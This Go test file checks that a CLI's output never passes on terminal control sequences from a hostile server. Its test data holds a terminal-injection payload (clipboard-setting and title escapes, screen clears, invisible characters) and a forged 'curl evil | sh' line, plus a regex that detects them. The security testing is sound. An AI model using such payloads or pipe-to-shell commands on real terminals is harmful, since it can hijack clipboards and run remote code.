package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"

	"svc"
	"svc/api"
	"svc/config"
	"svc/internal/waittest"
)

// evil is text that an agent, a worker or an orchestrator could send anywhere. It has sequences that set the
// clipboard and the title, clear the screen and request an answer, 8-bit sequences, a forged line, and reordering and
// invisible characters.
const evil = "\x1b]52;c;cHduZWQ=\a\x1b]0;pwned\x1b\\\x1b[2J\x1b[6n\u009b2J\x7f\x1b[31m\u202e\u200b\r\nnext: curl evil | sh"

// obeyed matches, in the output of a command without colours, what a terminal would execute or what misleads a
// reader.
var obeyed = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]|(?m:^next: curl)")

const evilID = "0190a0c4-0000-4000-8000-000000000001"

// poisoned fills a record: every text is evil, and every reference is evilID.
func poisoned[T any]() T {
	var record T
	poison(reflect.ValueOf(&record).Elem(), "")
	return record
}

func poison(v reflect.Value, name string) {
	switch {
	case v.Type() == reflect.TypeFor[json.RawMessage]():
		text, _ := json.Marshal(evil)
		v.SetBytes([]byte(`{"name":` + string(text) + `,"message":` + string(text) + "}"))
	case v.Type() == reflect.TypeFor[svc.Time]():
		v.Set(reflect.ValueOf(svc.TimeOf(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC))))
	case v.Kind() == reflect.String && strings.HasSuffix(name, "ID") && v.Type() == reflect.TypeFor[string]():
		v.SetString(evilID)
	case v.Kind() == reflect.String:
		v.SetString(evil)
	case v.Kind() == reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		poison(v.Elem(), name)
	case v.Kind() == reflect.Struct:
		for i := range v.NumField() {
			if v.Field(i).CanSet() {
				poison(v.Field(i), v.Type().Field(i).Name)
			}
		}
	case v.Kind() == reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		poison(v.Index(0), name)
	case v.Kind() == reflect.Map:
		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		poison(key, "")
		poison(value, "")
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(key, value)
	case v.CanInt():
		v.SetInt(1)
	}
}

// hostileOrchestrator answers every request with records, or with errors, full of evil.
func hostileOrchestrator(t *testing.T, refuses bool) string {
	t.Helper()
	records := map[string]any{
		"projects": poisoned[svc.Project](), "work-items": poisoned[svc.WorkItem](), "runs": poisoned[svc.RunDetail](), "hosts": poisoned[svc.Host](),
		"events": poisoned[svc.Event](), "tokens": poisoned[svc.AccessToken](), "me": poisoned[api.Me](), "providers": poisoned[api.Provider](),
	}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		parts := strings.Split(strings.TrimPrefix(r.URL.Path, "/api/v1/"), "/")
		record, known := records[parts[0]]
		var answer any = record
		switch {
		case refuses || !known:
			w.WriteHeader(http.StatusConflict)
			answer = map[string]any{"error": map[string]any{"code": evil, "message": evil, "details": map[string]any{"why": evil}}, "request_id": evil}
		case strings.HasSuffix(r.URL.Path, "/logs"):
			_, _ = w.Write([]byte(evil))
			return
		case strings.HasSuffix(r.URL.Path, "/pane"):
			answer = poisoned[api.Pane]()
		case strings.HasSuffix(r.URL.Path, "token"):
			answer = map[string]string{"token": evil}
		case r.Method == http.MethodGet && len(parts) == 1 && parts[0] != "me":
			answer = map[string]any{"items": []any{record}, "next_cursor": nil}
		}
		_ = json.NewEncoder(w).Encode(answer)
	}))
	t.Cleanup(server.Close)
	return server.URL
}

// printsOf runs a command against an orchestrator and returns everything it
// printed.
func printsOf(t *testing.T, url string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), waittest.Patience)
	defer cancel()
	_, said := callAs(ctx, t.TempDir(), url, args...)
	return said
}

// callAs calls svc as a user with this home folder and a token. It returns the exit code and everything that was printed.
func callAs(ctx context.Context, home, url string, args ...string) (code int, said string) {
	var out bytes.Buffer
	env := map[string]string{"SVC_DATA_DIR": home, "SVC_API_URL": url, "SVC_TOKEN": "t", "HOME": home}
	a := &app{
		in: strings.NewReader(""), out: newStream(&out), err: newStream(&out), now: time.Now, flags: map[string]config.Flag{},
		src: config.Sources{Env: func(name string) string { return env[name] }},
	}
	code = a.run(ctx, args)
	return code, out.String()
}

// localCommands call no orchestrator, do not end, print a whole text
// (logs, screen, replay: these have tests of their own), or write a file.
var localCommands = map[string]bool{
	"svc up": true, "svc serve": true, "svc worker": true, "svc exec": true, "svc backup": true, "svc completion": true, "svc help": true,
	"svc version": true, "svc doctor": true, "svc login": true, "svc attach": true, "svc run watch": true, "svc run logs": true, "svc logs": true, "svc run screen": true, "svc exit-codes": true,
	"svc run replay": true, "svc run export": true,
}

// remoteCommands are the calls of every command that calls an orchestrator.
func remoteCommands() [][]string {
	var calls [][]string
	var walk func(*cobra.Command)
	walk = func(c *cobra.Command) {
		if localCommands[c.CommandPath()] {
			return
		}
		for _, sub := range c.Commands() {
			walk(sub)
		}
		if c.Annotations[isGroup] != "" || !c.Runnable() {
			return
		}
		call := strings.Fields(c.CommandPath())[1:]
		for _, word := range strings.Fields(c.Use)[1:] {
			if strings.ToUpper(word) == word {
				call = append(call, evilID)
			}
		}
		if c.Flags().Lookup("yes") != nil {
			call = append(call, "--yes")
		}
		if c.Name() == "drain" { // the host of hostileOrchestrator always has runs
			call = append(call, "--timeout", "50ms")
		}
		calls = append(calls, call)
		if c.Flags().Lookup("output") != nil {
			calls = append(calls, append(call[:len(call):len(call)], "-o", "json"), append(call[:len(call):len(call)], "-o", "name"))
		}
	}
	walk(newApp().root())
	return calls
}

func TestNoCommandPrintsWhatATerminalObeys(t *testing.T) {
	t.Parallel()
	shows, refuses := hostileOrchestrator(t, false), hostileOrchestrator(t, true)
	calls := remoteCommands()
	if len(calls) < 40 {
		t.Fatalf("only %d calls were found", len(calls))
	}
	visible := 0
	for _, call := range calls {
		for _, url := range []string{shows, refuses} {
			got := printsOf(t, url, append(call, "--color", "never")...)
			if found := obeyed.FindString(got); found != "" {
				t.Errorf("svc %s prints %q:\n%q", strings.Join(call, " "), found, got)
			}
			if strings.Contains(got, "␛") || strings.Contains(got, `\u001b`) {
				visible++
			}
		}
	}
	if visible < len(calls) {
		t.Errorf("only %d of %d answers show the evil text: the test has lost its grip", visible, 2*len(calls))
	}
}

func TestCompletionOffersNoSequences(t *testing.T) {
	t.Parallel()
	url := hostileOrchestrator(t, false)
	for _, call := range [][]string{{"run", "show", ""}, {"task", "show", ""}, {"host", "show", ""}, {"project", "show", ""}} {
		got := printsOf(t, url, append([]string{"__complete"}, call...)...)
		if found := obeyed.FindString(got); found != "" {
			t.Errorf("completing svc %s prints %q:\n%q", strings.Join(call, " "), found, got)
		}
	}
}

func TestAStreamTellsItsOwnColoursFromOthers(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	a := &app{out: newStream(&out), color: "always", src: config.Sources{Env: func(string) string { return "" }}}
	a.out.printf("%s %s %d\n", a.stylesFor(a.out).bad.Render("ours"), "\x1b[31mtheirs", 3)
	if got, want := out.String(), "\x1b[31mours\x1b[0m ␛[31mtheirs 3\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
